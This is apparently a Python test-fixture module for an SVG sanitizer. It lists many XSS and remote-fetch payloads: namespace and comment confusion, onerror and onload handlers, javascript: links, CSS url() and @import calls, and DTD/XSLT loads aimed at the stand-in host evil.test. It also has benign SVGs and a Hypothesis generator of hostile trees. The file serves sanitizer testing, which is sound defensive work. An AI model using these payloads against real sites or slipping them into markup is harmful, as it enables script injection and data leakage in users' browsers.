"""SVGs that try to execute something or to fetch something, where a browser reads them as XML or as HTML, once or several times.

Each calls `alert`, or asks for something at `evil.test`. Some look harmless, and are here because a careless writer makes markup of their
text. `trees()` makes more of them at random.
"""

from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

from hypothesis import strategies as st

SVG = "http://www.w3.org/2000/svg"
HTML = "http://www.w3.org/1999/xhtml"
MATH = "http://www.w3.org/1998/Math/MathML"
XLINK = "http://www.w3.org/1999/xlink"
EDITOR = "http://www.inkscape.org/namespaces/inkscape"

IMG = "<img src=x onerror=alert(1)>"
IMG_X = '<img src="x" onerror="alert(1)"/>'
TEXT = escape(IMG)  # the same as text
TWICE = escape(TEXT)

# what may be found in a page after a token's text was inserted
ELEMENTS = frozenset(
    """
a animate animateMotion animateTransform circle clipPath defs desc ellipse feBlend feColorMatrix feComponentTransfer feComposite
feConvolveMatrix feDiffuseLighting feDisplacementMap feDistantLight feDropShadow feFlood feFuncA feFuncB feFuncG feFuncR feGaussianBlur
feImage feMerge feMergeNode feMorphology feOffset fePointLight feSpecularLighting feSpotLight feTile feTurbulence filter g image line
linearGradient marker mask mpath path pattern polygon polyline radialGradient rect set stop style svg switch symbol text textPath title
tspan use view
""".split()  # noqa: SIM905
)
DOT = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def svg(inside: str, attributes: str = "") -> str:
    return f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" {attributes}>{inside}</svg>'


# XML and HTML read another tree: prefixes, namespaces, comments, sections, names in other cases
CONFUSION = [
    f'<s:svg xmlns:s="{SVG}" xmlns="{SVG}"><style><!--</style>{IMG}--></style></s:svg>',
    f'<s:svg xmlns:s="{SVG}" xmlns="{HTML}"><style><!--</style>{IMG}--></style></s:svg>',
    f'<s:svg xmlns:s="{SVG}" xmlns="{HTML}"><s:style><!--</s:style>{IMG}--></s:style></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:style><!--</style>{IMG}--></s:style></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:title><!--</title>{IMG}--></s:title></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:style><!--</style><img src="x" onerror="alert(1)"/>--></s:style></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:g><!--></style>{IMG}--></s:g></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:desc><![CDATA[{IMG}]]></s:desc></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:text><![CDATA[{IMG}]]></s:text></s:svg>',
    f'<s:svg xmlns:s="{SVG}" xmlns="{HTML}"><s:g><script>alert(1)</script></s:g></s:svg>',
    f'<s:svg xmlns:s="{SVG}"><s:script>alert(1)</s:script></s:svg>',
    f'<img:svg xmlns:img="{SVG}"><img:image href="#a"/></img:svg>',
    svg(f'<s:g xmlns:s="{SVG}"><s:style><!--</style>{IMG}--></s:style></s:g>'),
    svg(f'<s:style xmlns:s="{SVG}"><!--</style>{IMG}--></s:style>'),
    svg(f'<title xmlns="{HTML}">{TEXT}</title>'),
    svg(f'<style xmlns="{HTML}"><!--</style>{IMG}--></style>'),
    svg(f'<style xmlns="{EDITOR}"><!--</style>{IMG}--></style>'),
    svg(f'<i:style xmlns:i="{EDITOR}"><!--</style>{IMG}--></i:style>'),
    svg(f'<metadata><i:style xmlns:i="{EDITOR}"><!--</style>{IMG}--></i:style></metadata>'),
    svg(f'<metadata xmlns:i="{EDITOR}"><i:x a="{escape(IMG)}">{TEXT}</i:x></metadata>'),
    svg(f'<i:svg xmlns:i="{EDITOR}"><i:script>alert(1)</i:script></i:svg>'),
    svg(f'<g xmlns=""><script>alert(1)</script><style><!--</style>{IMG}--></style></g>'),
    f'<svg xmlns="{SVG}"><svg xmlns="{HTML}"><style><!--</style>{IMG}--></style></svg></svg>',
    svg(f"<style><!--</style>{IMG}--></style>"),
    svg(f"<title><!--</title>{IMG}--></title>"),
    svg(f"<desc><!--</desc></svg>{IMG}--></desc>"),
    svg(f"<!--><svg/>{IMG}-->"),
    svg(f"<!---><svg/>{IMG}-->"),
    svg(f"<!-- --!>{IMG}-->"),
    f"<!--><img src=x onerror=alert(1)>-->{svg('<g/>')}",
    f"{svg('<g/>')}<!-- </svg>{IMG} -->",
    svg("<!-- just words --><g/>"),
    svg(f"<text><![CDATA[{IMG}]]></text>"),
    svg(f"<style><![CDATA[</style>{IMG}]]></style>"),
    svg(f"<style><![CDATA[.a{{}}]]>{TEXT}</style>"),
    svg(f"<title><![CDATA[></title>{IMG}]]></title>"),
    svg(f"<desc>]]&gt;{TEXT}</desc>"),
    svg("<STYLE>a</STYLE>"),
    svg("<Script>alert(1)</Script>"),
    svg("<ForeignObject/>"),
    svg(f"<lineargradient><style>{TEXT}</style></lineargradient>"),
    svg("<TITLE/><tItle/>"),
    svg("<p/><br/><b/><h1/>"),
    svg("<p></p>"),
    svg('<font color="red"/>'),
    svg("<font/>"),
    svg("<table><tr/></table>"),
    svg("<li/>"),
    svg(f"<a><b/>{TEXT}</a>"),
    svg("<select><option/></select>"),
    svg("<noscript>a</noscript>"),
    svg("<template><g/></template>"),
    svg("<plaintext/>"),
    svg(f"<xmp>{TEXT}</xmp>"),
    svg("<textarea></textarea>"),
    svg(f"<noembed>{TEXT}</noembed>"),
    svg("<iframe/>"),
    svg('<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"/>'),
    svg("<frameset/>"),
    f'<math xmlns="{MATH}"><mtext><table><mglyph><style><!--</style>{IMG_X}</mglyph></table></mtext></math>',
    svg(f'<math xmlns="{MATH}"><annotation-xml encoding="text/html">{TEXT}</annotation-xml></math>'),
    svg(f'<annotation-xml encoding="text/html"><style>{TEXT}</style></annotation-xml>'),
    svg(f'<m:annotation-xml xmlns:m="{MATH}" encoding="text/html"><g/></m:annotation-xml>'),
    svg(f'<foreignObject><div xmlns="{HTML}">{IMG_X}</div></foreignObject>'),
    svg("<foreignObject><style><g/></style></foreignObject>"),
    f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.test/"?>{svg("")}',
    svg("<?php --><script>alert(1)</script> ?>"),
    svg("<?a ><img src=x onerror=alert(1)> ?>"),
    f'<!DOCTYPE svg [<!ENTITY a "{escape(IMG)}">]>{svg("<text>&a;</text>")}',
    f'<!DOCTYPE svg SYSTEM "http://evil.test/x.dtd">{svg("")}',
    f'<?xml version="1.0" encoding="UTF-7"?>{svg("<text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text>")}',
]

# text that must stay text, read once or three times over
WORDS = [
    svg(f"<text>{TEXT}</text>"),
    svg(f"<text>{TWICE}</text>"),
    svg(f"<title>{TEXT}</title>"),
    svg(f"<title>{TWICE}</title>"),
    svg(f"<title>&lt;/title&gt;{TEXT}</title>"),
    svg(f"<desc>{TEXT}</desc>"),
    svg(f"<desc>&lt;/desc&gt;&lt;/svg&gt;{TEXT}</desc>"),
    svg(f"<style>{TEXT}</style>"),
    svg(f"<style>{TWICE}</style>"),
    svg(f"<style>/* &lt;/style&gt;{TEXT} */</style>"),
    svg("<style>.a &gt; .b { fill: red } /* Tom &amp; Jerry */</style>"),
    svg("<style>&amp;#60;img src=x onerror=alert(1)&amp;#62;</style>"),
    svg(f'<g id="{TEXT.replace(chr(34), "")}"/>'),
    svg(f"<g id='&quot;&gt;{TEXT}'/>"),
    svg(f'<g class="`&gt;{TEXT}"/>'),
    svg(f'<text aria-label="{TEXT}" font-family="&quot;&gt;{TEXT}">a</text>'),
    svg(f'<text aria-label="{TWICE}">a</text>'),
    svg("<g id='&lt;!--'/><g id='--&gt;'/>"),
    svg("<g id='&lt;![CDATA['/><g id=']]&gt;'/>"),
    svg("<text>&lt;![CDATA[</text>"),
    svg(f"<text>&lt;!--</text>{TEXT}<text>--&gt;</text>"),
    svg("<style></style>"),
    svg("<style/>"),
    svg("<title/><style/><desc/>"),
    svg(f"<style/>{TEXT}"),
    svg(f"<title/>{TEXT}"),
    svg("<text>a&#13;b&#10;c&#9;d&#x85;e&#xa0;f&#x2028;g</text>"),
    svg('<text aria-label="a&#13;b&#10;c&#9;d&#x85;e&#xa0;f">g</text>'),
    svg("<text>\u0080\u009f\ufdd0\U0001f600</text>"),
    svg(f"<text>]]&gt;{TEXT}]]&gt;</text>"),
    svg("<text>&amp;lt;&amp;amp;&amp;nbsp;&amp;notit;</text>"),
    svg("<a href='#x'>a<a href='#y'>b</a></a>"),
    svg("\n\n<text>\n\nlines</text>\n"),
    svg("<switch><text><tspan/></text></switch><g><g/></g>"),
    svg(TEXT),
]

# what executes or fetches where both parsers see the same
OPEN = [
    svg("<script>alert(1)</script>"),
    svg('<script href="data:,alert(1)"/>'),
    svg('<script xlink:href="http://evil.test/"/>'),
    svg("", 'onload="alert(1)"'),
    svg('<g onload="alert(1)"/>'),
    svg('<g ONLOAD="alert(1)"/>'),
    svg('<animate onbegin="alert(1)" begin="0s"/>'),
    svg('<set attributeName="onload" to="alert(1)"/>'),
    svg('<image href="x" onerror="alert(1)"/>'),
    svg('<g xlink:onload="alert(1)"/>'),
    svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    svg('<a xlink:href="java&#9;script:alert(1)"><rect/></a>'),
    svg('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><rect/></a>'),
    svg('<a id="q"/><animate href="#q" attributeName="href" values="javascript:alert(1)"/>'),
    svg('<animate attributeName="xlink:href" to="javascript:alert(1)" begin="0s"/>'),
    svg(f'<y:a xmlns:y="{XLINK}" y:href="javascript:alert(1)"/>'),
    svg(f'<a xmlns:y="{XLINK}" y:href="javascript:alert(1)"/>'),
    svg('<a xmlns:xlink="urn:x" xlink:href="javascript:alert(1)"><rect/></a>').replace(f' xmlns:xlink="{XLINK}"', ""),
    svg('<use href="http://evil.test/#a"/>'),
    svg('<use href="data:image/svg+xml,&lt;svg/&gt;#a"/>'),
    svg('<use href="&#160;#a"/><image width="9" height="9" xlink:href="\u2028#a"/>'),  # a path of one strange space
    svg('<rect width="9" height="9" fill="url(&#160;#a)" mask="url(\u3000#a)" style="filter:url(\u2003#a)"/>'),
    svg("<style>rect{mask-image:url(\u0085#a)}</style><rect width='9' height='9'/>"),
    svg('<image href="http://evil.test/a.png"/>'),
    svg('<image xlink:href="//evil.test/a.png"/>'),
    svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
    svg('<image src="http://evil.test/a.png"/>'),
    svg('<image SRC="http://evil.test/a.png"/>'),
    svg('<image srcset="http://evil.test/ 1x"/>'),
    svg('<filter><feImage href="http://evil.test/"/></filter>'),
    svg('<g xml:base="http://evil.test/"><use href="#a"/></g>'),
    svg('<rect fill="url(http://evil.test/#a)"/>'),
    svg('<rect style="fill:url(//evil.test)"/>'),
    svg('<rect style="fill:u\\72l(//evil.test)"/>'),
    svg('<rect style="background:image-set(&quot;http://evil.test/&quot; 1x)"/>'),
    svg("<style>@import 'http://evil.test/';</style>"),
    svg("<style>@import url(http://evil.test/);</style>"),
    svg("<style>@font-face{font-family:a;src:url(http://evil.test/)}</style>"),
    svg("<style>svg{background:url(http://evil.test/)}</style>"),
    svg("<style>*{list-style-image:u/**/rl(http://evil.test/)}</style>"),
    svg('<rect filter="url(http://evil.test/#f)" mask="url(&#39;//evil.test/&#39;)" cursor="url(http://evil.test/),auto"/>'),
    svg('<a ping="http://evil.test/" href="#a"/>'),
    svg('<set attributeName="fill" to="url(http://evil.test/#a)"/>'),
    svg('<animate attributeName="style" to="background:url(http://evil.test/)"/>'),
    svg('<image><animate attributeName="href" to="http://evil.test/"/></image>'),
    svg('<audio src="http://evil.test/" onerror="alert(1)" autoplay=""/>'),
    svg('<video poster="http://evil.test/"/>'),
    svg('<embed src="http://evil.test/"/>'),
    svg('<object data="http://evil.test/"/>'),
    svg('<link rel="stylesheet" href="http://evil.test/"/>'),
    svg('<base href="http://evil.test/"/>'),
    svg('<meta http-equiv="refresh" content="0;url=http://evil.test/"/>'),
    svg('<form action="http://evil.test/"/>'),
    svg('<handler type="text/javascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">alert(1)</handler>'),
    svg('<g data-hx-on-load="alert(1)" data-hx-get="http://evil.test/" data-hx-trigger="load"/>'),
    svg('<g is="x-a" slot="a" nonce="a"/>'),
    svg('<g tabindex="1" autofocus="" onfocus="alert(1)"/>'),
    svg('<discard onbegin="alert(1)"/>'),
    svg('<color-profile xlink:href="http://evil.test/"/>'),
    svg('<font-face><font-face-src><font-face-uri xlink:href="http://evil.test/"/></font-face-src></font-face>'),
    svg('<cursor xlink:href="http://evil.test/"/>'),
    svg('<tref xlink:href="http://evil.test/"/>'),
    svg('<altGlyph xlink:href="http://evil.test/"/>'),
]

# pictures as programs make them: all of this is let in
ORDINARY = [
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3"><rect width="4" height="3" fill="#ff6868"/></svg>',
    svg(
        '<defs><linearGradient id="g" gradientUnits="userSpaceOnUse" x2="90" gradientTransform="rotate(20)">'
        '<stop offset="0" stop-color="#f66"/>'
        '<stop offset="1" style="stop-color:#56f;stop-opacity:.5"/></linearGradient><radialGradient id="r" xlink:href="#g"/>'
        '<clipPath id="c" clipPathUnits="userSpaceOnUse"><circle cx="40" cy="40" r="20"/></clipPath></defs>'
        '<rect width="90" height="60" fill="url(#g)"/><circle cx="40" cy="30" r="20" style="fill:url(&quot;#r&quot;);stroke:#000" '
        'clip-path="url(#c)"/>',
        'viewBox="0 0 90 60"',
    ),
    svg(
        "<style>text { font: 12px sans-serif } .big &gt; tspan { fill: #56f; font-weight: bold }</style><g class='big'>"
        '<text x="4" y="20" textLength="60" lengthAdjust="spacingAndGlyphs"><tspan>Häuser</tspan>'
        ' &amp; <tspan dy="3">Bäume</tspan></text></g>'
        '<path id="p" d="M5 50Q40 20 85 50" fill="none" stroke="#f66" stroke-dasharray="2 1"/>'
        '<text><textPath xlink:href="#p">wind</textPath></text>',
        'viewBox="0 0 90 60"',
    ),
    svg(
        '<!-- made by a program --><filter id="f" x="-1" width="3"><feGaussianBlur in="SourceGraphic" stdDeviation="2"/>'
        '<feOffset dx="3" dy="2"/>'
        '<feMerge><feMergeNode/><feMergeNode in="SourceGraphic"/></feMerge></filter>'
        '<pattern id="t" width="4" height="4" patternUnits="userSpaceOnUse">'
        '<line x2="4" y2="4" stroke="#2a2"/></pattern>'
        '<marker id="m" markerWidth="4" markerHeight="4" refX="2" refY="2" orient="auto"><circle r="2"/></marker>'
        '<symbol id="s" viewBox="0 0 2 2"><polygon points="0,0 2,0 1,2"/></symbol><use href="#s" width="20" height="20" filter="url(#f)"/>'
        '<rect x="30" width="30" height="30" fill="url(#t)"/>'
        '<polyline points="60,50 70,40 80,50" fill="none" stroke="#000" marker-end="url(#m)"/>',
        'viewBox="0 0 90 60" width="90" height="60" version="1.1" xml:space="preserve"',
    ),
    svg(
        '<title>A token</title><desc>Of three words</desc><g transform="translate(10 10)"><ellipse rx="9" ry="5">'
        '<animate attributeName="rx" '
        'from="9" to="1" dur="3s" repeatCount="indefinite"/>'
        '<animateTransform attributeName="transform" type="rotate" to="90" dur="1s"/></ellipse></g>'
        f'<image width="9" height="9" href="{DOT}"/>'
        f'<i:grid xmlns:i="{EDITOR}" i:label="left out"/><metadata><x/></metadata>',
        f'viewBox="0 0 90 60" xmlns:inkscape="{EDITOR}" inkscape:version="1.3" data-name="Layer 1"',
    ),
]

ATTACKS = [*CONFUSION, *WORDS, *OPEN]

_NAMES = st.sampled_from(
    ["svg", "g", "a", "text", "style", "title", "desc", "rect", "image", "use", "set", "animate", "defs", "script", "foreignObject",
     "metadata", "switch", "symbol", "textPath", "linearGradient", "STYLE", "p", "img", "math", "annotation-xml", "mtext", "iframe",
     "noscript", "template", "table", "b"]
)  # fmt: skip
_PREFIXES = st.sampled_from(["", "", "", "", "", "s", "h", "m", "i", "xlink"])
_ATTRIBUTES = st.sampled_from(
    ["id", "class", "style", "href", "xlink:href", "onload", "fill", "to", "attributeName", "values", "aria-label", "src", "xml:space",
     "xml:base", "i:label", "h:onclick", "viewBox", "viewbox", "encoding", "data-x", "transform"]
)  # fmt: skip
_STRINGS = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12),
    st.sampled_from(
        [
            IMG,
            "</style>",
            "</title>",
            "</svg>",
            "<!--",
            "-->",
            "--!>",
            "]]>",
            "<![CDATA[",
            "&lt;img src=x onerror=alert(1)&gt;",
            '"',
            "'",
            "`",
            "/>",
            "javascript:alert(1)",
            "#a",
            "url(#a)",
            "url(http://evil.test/)",
            "/*",
            "*/",
            "href",
            "\r",
            "\n",
            "fill",
            ".a > .b { fill: red }",
        ]
    ),
).map(
    lambda text: "".join(
        sign for sign in text if sign in "\t\n\r" or " " <= sign <= "\ud7ff" or "\ue000" <= sign <= "\ufffd" or sign > "\uffff"
    )
)


def _write(name: str, prefix: str, default: str, attributes: dict[str, str], inside: list[str]) -> str:
    written = " ".join(f"{key}={quoteattr(value)}" for key, value in attributes.items())
    full = f"{prefix}:{name}" if prefix else name
    return f"<{full}{f' xmlns={quoteattr(default)}' if default else ''} {written}>{''.join(inside)}</{full}>"


def trees() -> st.SearchStrategy[str]:
    """Well-formed documents with the root svg: any nesting of known and hostile names, namespaces, sections, comments and texts."""
    leaves = st.one_of(
        _STRINGS.map(escape),
        _STRINGS.map(lambda text: f"<!--{text.replace('--', '- -')} -->"),
        _STRINGS.map(lambda text: f"<![CDATA[{text.replace(']]>', '')}]]>"),
    )
    attributes = st.dictionaries(_ATTRIBUTES, _STRINGS, max_size=3)
    defaults = st.sampled_from(["", "", "", "", SVG, HTML, MATH, EDITOR])
    inside = st.recursive(
        leaves, lambda inner: st.builds(_write, _NAMES, _PREFIXES, defaults, attributes, st.lists(inner, max_size=4)), max_leaves=12
    )
    declared = {"xmlns:s": SVG, "xmlns:h": HTML, "xmlns:m": MATH, "xmlns:i": EDITOR, "xmlns:xlink": XLINK}

    def root(prefix: str, default: str, own: dict[str, str], content: list[str]) -> str:
        return _write("svg", prefix, default, declared | own, content)

    return st.builds(
        root, st.sampled_from(["", "", "", "s"]), st.sampled_from([SVG, SVG, SVG, HTML]), attributes, st.lists(inside, max_size=4)
    )
